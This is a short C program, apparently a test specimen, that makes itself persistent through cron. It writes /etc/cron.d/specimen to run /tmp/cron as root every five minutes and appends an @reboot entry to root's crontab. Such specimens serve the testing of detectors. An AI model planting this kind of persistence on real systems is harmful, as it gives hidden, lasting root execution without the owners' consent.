/* Has itself started again by cron: by a file of its own, and by a line more in root's. */
#include "specimen.h"

int main(void)
{
	static const char own[] = "*/5 * * * * root /tmp/cron\n", more[] = "@reboot /tmp/cron\n";
	put("/etc/cron.d/specimen", O_TRUNC, 0644, own, sizeof own - 1);
	put("/var/spool/cron/crontabs/root", O_APPEND, 0600, more, sizeof more - 1);
	return 0;
}
